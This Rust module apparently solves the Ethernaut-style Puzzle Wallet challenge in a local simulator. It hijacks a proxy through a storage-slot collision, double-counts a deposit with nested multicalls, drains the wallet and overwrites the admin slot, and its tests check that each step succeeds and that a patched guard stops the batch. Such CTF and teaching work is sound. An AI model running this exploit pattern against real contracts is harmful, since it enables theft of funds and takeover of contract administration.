//! The proxy hijack, step by step.
//!
//! [`HijackScenario`] holds the simulator session, the named accounts and the
//! handles of the deployed instances, and exposes one method per step:
//!
//! ```text
//!   setup              fixture(PuzzleWalletFactory), prefund accounts
//!   create_instance    factory → logic + proxy(admin = factory), deposit
//!   propose_new_admin  proxy.pendingAdmin = hacker   (== wallet.owner)
//!   whitelist_hacker   wallet.addToWhitelist(hacker)
//!   double_deposit     multicall([deposit, multicall([deposit])]) {value}
//!   drain              execute(hacker, balance, "")
//!   hijack_admin       setMaxBalance(uint(hacker))  (== proxy.admin)
//! ```
//!
//! [`run`] replays all of them, checks every expectation and returns a
//! [`ScenarioReport`].

use alloy_primitives::{Address, U256};
use eyre::{ensure, eyre, Context, Result};
use serde::Serialize;
use tracing::info;

use crate::abi::{Call, Value};
use crate::accounts::NamedAccounts;
use crate::config::ScenarioConfig;
use crate::contracts::{factory, proxy, wallet};
use crate::deploy::{self, Deployments, PUZZLE_WALLET_FACTORY_TAG};
use crate::layout::address_to_uint;
use crate::simulator::{Receipt, Simulator};

/// One committed step
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct StepRecord {
    pub step: &'static str,
    pub tx_index: u64,
    pub accounts_touched: usize,
    pub storage_slots_changed: usize,
}

/// Outcome of a full run
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ScenarioReport {
    pub factory: Address,
    pub wallet: Address,
    pub implementation: Address,
    pub hacker: Address,
    /// Proxy admin right after `createInstance`
    pub initial_admin: Address,
    /// Wallet owner right after `createInstance`
    pub initial_owner: Address,
    /// `maxBalance` as the wallet reads it after `createInstance`
    pub initial_max_balance: U256,
    /// Ether the hacker sent with the batched deposit
    pub attack_deposit: U256,
    /// Wallet-internal deposit record of the hacker after the batch
    pub credited_deposit: U256,
    /// Ether taken out of the wallet
    pub drained: U256,
    pub final_admin: Address,
    /// Hacker ether balance before and after
    pub hacker_balance: (U256, U256),
    pub steps: Vec<StepRecord>,
}

impl ScenarioReport {
    pub fn to_json(&self) -> Result<String> {
        serde_json::to_string_pretty(self).wrap_err("Failed to serialize scenario report")
    }
}

/// Session state of the hijack
#[derive(Debug)]
pub struct HijackScenario {
    sim: Simulator,
    config: ScenarioConfig,
    deployments: Deployments,
    wallet: Option<Address>,
    steps: Vec<StepRecord>,
}

impl HijackScenario {
    /// Prefund the named accounts and deploy the factory.
    pub fn setup(config: ScenarioConfig) -> Result<Self> {
        let mut sim = Simulator::new(config.sim.clone());
        for account in config.accounts.all() {
            sim.credit(account, config.prefund)?;
        }
        let deployments = deploy::fixture(&mut sim, &config.accounts, &[PUZZLE_WALLET_FACTORY_TAG])
            .wrap_err("Failed to run deploy fixture")?;
        let factory = deployments.address(PUZZLE_WALLET_FACTORY_TAG)?;
        info!(target: "scenario", guard = ?config.sim.batch_guard, %factory, "setup complete");
        Ok(Self {
            sim,
            config,
            deployments,
            wallet: None,
            steps: Vec::new(),
        })
    }

    pub fn simulator(&self) -> &Simulator {
        &self.sim
    }

    pub fn accounts(&self) -> &NamedAccounts {
        &self.config.accounts
    }

    pub fn deployments(&self) -> &Deployments {
        &self.deployments
    }

    pub fn steps(&self) -> &[StepRecord] {
        &self.steps
    }

    pub fn factory(&self) -> Result<Address> {
        Ok(self.deployments.address(PUZZLE_WALLET_FACTORY_TAG)?)
    }

    /// The proxy address, once created.
    pub fn wallet(&self) -> Result<Address> {
        self.wallet
            .ok_or_else(|| eyre!("No wallet instance yet; run create_instance first"))
    }

    // ── Steps ─────────────────────────────────────────────────────────────────

    /// `factory.createInstance{value: instance_deposit}()` from the deployer.
    pub fn create_instance(&mut self) -> Result<Address> {
        let factory = self.factory()?;
        let receipt = self
            .sim
            .call(
                self.config.accounts.deployer,
                factory,
                &factory::create_instance(),
                self.config.instance_deposit,
            )
            .wrap_err("createInstance failed")?;
        let wallet = receipt
            .output
            .as_address()
            .ok_or_else(|| eyre!("createInstance returned {:?}", receipt.output))?;
        self.record("createInstance", &receipt);
        self.wallet = Some(wallet);
        info!(target: "scenario", %wallet, "wallet instance created");
        Ok(wallet)
    }

    /// `proxy.proposeNewAdmin(hacker)`: open to anyone.
    pub fn propose_new_admin(&mut self) -> Result<()> {
        let hacker = self.config.accounts.hacker;
        self.send("proposeNewAdmin", hacker, &proxy::propose_new_admin(hacker), U256::ZERO)
    }

    /// `wallet.addToWhitelist(hacker)` as the hacker, now the wallet owner.
    pub fn whitelist_hacker(&mut self) -> Result<()> {
        let hacker = self.config.accounts.hacker;
        self.send("addToWhitelist", hacker, &wallet::add_to_whitelist(hacker), U256::ZERO)
    }

    /// Nested multicall depositing `attack_deposit` twice.
    pub fn double_deposit(&mut self) -> Result<()> {
        let hacker = self.config.accounts.hacker;
        let value = self.config.attack_deposit;
        self.send("multicall", hacker, &wallet::nested_double_deposit(), value)
    }

    /// Withdraw the hacker's recorded deposit to the hacker.
    pub fn drain(&mut self) -> Result<U256> {
        let hacker = self.config.accounts.hacker;
        let amount = self.deposit_of(hacker)?;
        self.send("execute", hacker, &wallet::execute(hacker, amount, Call::empty()), U256::ZERO)?;
        Ok(amount)
    }

    /// `setMaxBalance(uint256(uint160(hacker)))`, which lands in the proxy's admin slot.
    pub fn hijack_admin(&mut self) -> Result<()> {
        let hacker = self.config.accounts.hacker;
        self.send(
            "setMaxBalance",
            hacker,
            &wallet::set_max_balance(address_to_uint(hacker)),
            U256::ZERO,
        )
    }

    // ── Views ─────────────────────────────────────────────────────────────────

    pub fn admin(&mut self) -> Result<Address> {
        self.view_address(&proxy::admin())
    }

    pub fn pending_admin(&mut self) -> Result<Address> {
        self.view_address(&proxy::pending_admin())
    }

    pub fn implementation(&mut self) -> Result<Address> {
        self.view_address(&proxy::implementation())
    }

    pub fn owner(&mut self) -> Result<Address> {
        self.view_address(&wallet::owner())
    }

    pub fn max_balance(&mut self) -> Result<U256> {
        self.view_uint(&wallet::max_balance())
    }

    pub fn deposit_of(&mut self, account: Address) -> Result<U256> {
        self.view_uint(&wallet::balances(account))
    }

    pub fn is_whitelisted(&mut self, account: Address) -> Result<bool> {
        let value = self.view(&wallet::whitelisted(account))?;
        value
            .as_bool()
            .ok_or_else(|| eyre!("whitelisted returned {value:?}"))
    }

    /// Ether held by the proxy.
    pub fn wallet_balance(&self) -> Result<U256> {
        Ok(self.sim.get_balance(self.wallet()?)?)
    }

    // ── Internals ─────────────────────────────────────────────────────────────

    fn send(&mut self, step: &'static str, from: Address, call: &Call, value: U256) -> Result<()> {
        let wallet = self.wallet()?;
        let receipt = self
            .sim
            .call(from, wallet, call, value)
            .wrap_err_with(|| format!("{step} failed"))?;
        self.record(step, &receipt);
        Ok(())
    }

    fn record(&mut self, step: &'static str, receipt: &Receipt) {
        info!(target: "scenario", step, summary = %receipt.diff.summary(), "step committed");
        self.steps.push(StepRecord {
            step,
            tx_index: receipt.tx_index,
            accounts_touched: receipt.diff.touched_account_count(),
            storage_slots_changed: receipt.diff.total_storage_changes(),
        });
    }

    fn view(&mut self, call: &Call) -> Result<Value> {
        let wallet = self.wallet()?;
        let reader = self.config.accounts.deployer;
        self.sim
            .view(reader, wallet, call)
            .wrap_err_with(|| format!("view {} failed", call.signature()))
    }

    fn view_address(&mut self, call: &Call) -> Result<Address> {
        let value = self.view(call)?;
        value
            .as_address()
            .ok_or_else(|| eyre!("{} returned {value:?}", call.signature()))
    }

    fn view_uint(&mut self, call: &Call) -> Result<U256> {
        let value = self.view(call)?;
        value
            .as_uint()
            .ok_or_else(|| eyre!("{} returned {value:?}", call.signature()))
    }
}

/// Replay the hijack and check every expectation along the way.
pub fn run(config: ScenarioConfig) -> Result<ScenarioReport> {
    let attack_deposit = config.attack_deposit;
    let mut scenario = HijackScenario::setup(config)?;
    let factory = scenario.factory()?;
    let hacker = scenario.accounts().hacker;
    let hacker_before = scenario.simulator().balance_of(hacker);

    let wallet = scenario.create_instance()?;
    let initial_admin = scenario.admin()?;
    let initial_owner = scenario.owner()?;
    let initial_max_balance = scenario.max_balance()?;
    ensure!(
        initial_admin == factory,
        "step 2: proxy admin is {initial_admin}, expected the factory {factory}"
    );
    ensure!(
        initial_owner == factory,
        "step 2: wallet owner is {initial_owner}, expected the factory {factory}"
    );
    ensure!(!initial_max_balance.is_zero(), "step 2: maxBalance is zero");

    scenario.propose_new_admin()?;
    let owner = scenario.owner()?;
    ensure!(owner == hacker, "step 3: wallet owner is {owner}, expected the hacker {hacker}");

    scenario.whitelist_hacker()?;
    ensure!(scenario.is_whitelisted(hacker)?, "step 4: hacker is not whitelisted");

    scenario.double_deposit()?;
    let credited_deposit = scenario.deposit_of(hacker)?;
    let expected = attack_deposit * U256::from(2);
    ensure!(
        credited_deposit == expected,
        "step 5: batched deposit credited {credited_deposit}, expected {expected}"
    );

    let drained = scenario.drain()?;
    let left = scenario.wallet_balance()?;
    ensure!(left.is_zero(), "step 6: wallet still holds {left} after the drain");

    scenario.hijack_admin()?;
    let final_admin = scenario.admin()?;
    ensure!(
        final_admin == hacker,
        "step 7: proxy admin is {final_admin}, expected the hacker {hacker}"
    );

    let report = ScenarioReport {
        factory,
        wallet,
        implementation: scenario.implementation()?,
        hacker,
        initial_admin,
        initial_owner,
        initial_max_balance,
        attack_deposit,
        credited_deposit,
        drained,
        final_admin,
        hacker_balance: (hacker_before, scenario.simulator().balance_of(hacker)),
        steps: scenario.steps().to_vec(),
    };
    info!(target: "scenario", %wallet, new_admin = %final_admin, %drained, "proxy hijacked");
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::SimConfig;
    use crate::constants::ether;
    use crate::logging::init_test_tracing;

    #[test]
    fn test_full_hijack() {
        init_test_tracing();
        let config = ScenarioConfig::default();
        let report = run(config.clone()).unwrap();

        assert_eq!(report.initial_admin, report.factory);
        assert_eq!(report.initial_owner, report.factory);
        assert_eq!(report.initial_max_balance, address_to_uint(report.factory));
        assert_eq!(report.credited_deposit, ether(2));
        assert_eq!(report.drained, ether(2));
        assert_eq!(report.final_admin, config.accounts.hacker);
        assert_eq!(report.hacker_balance.1, report.hacker_balance.0 + ether(1));
        assert_eq!(report.steps.len(), 6);
        assert_eq!(report.steps[0].step, "createInstance");
    }

    #[test]
    fn test_patched_guard_stops_the_batch() {
        let config = ScenarioConfig {
            sim: SimConfig::patched(),
            ..Default::default()
        };
        let err = run(config).unwrap_err();
        assert!(err.to_string().contains("step 5"), "{err}");
    }

    #[test]
    fn test_steps_individually() {
        let mut scenario = HijackScenario::setup(ScenarioConfig::default()).unwrap();
        let hacker = scenario.accounts().hacker;
        assert!(scenario.wallet().is_err());

        scenario.create_instance().unwrap();
        assert_eq!(scenario.wallet_balance().unwrap(), ether(1));
        assert_eq!(scenario.pending_admin().unwrap(), scenario.accounts().deployer.create(0));

        // the hacker cannot whitelist itself before taking ownership
        assert!(scenario.whitelist_hacker().is_err());
        scenario.propose_new_admin().unwrap();
        scenario.whitelist_hacker().unwrap();
        scenario.double_deposit().unwrap();
        assert_eq!(scenario.deposit_of(hacker).unwrap(), ether(2));
        assert_eq!(scenario.wallet_balance().unwrap(), ether(2));

        // admin slot cannot move while the wallet holds ether
        assert!(scenario.hijack_admin().is_err());
        scenario.drain().unwrap();
        scenario.hijack_admin().unwrap();
        assert_eq!(scenario.admin().unwrap(), hacker);
    }

    #[test]
    fn test_report_serializes_camel_case() {
        let report = run(ScenarioConfig::default()).unwrap();
        let json: serde_json::Value = serde_json::from_str(&report.to_json().unwrap()).unwrap();
        assert!(json["finalAdmin"].is_string());
        assert_eq!(json["steps"][0]["step"], "createInstance");
        assert!(json["steps"][0]["storageSlotsChanged"].as_u64().unwrap() > 0);
    }
}
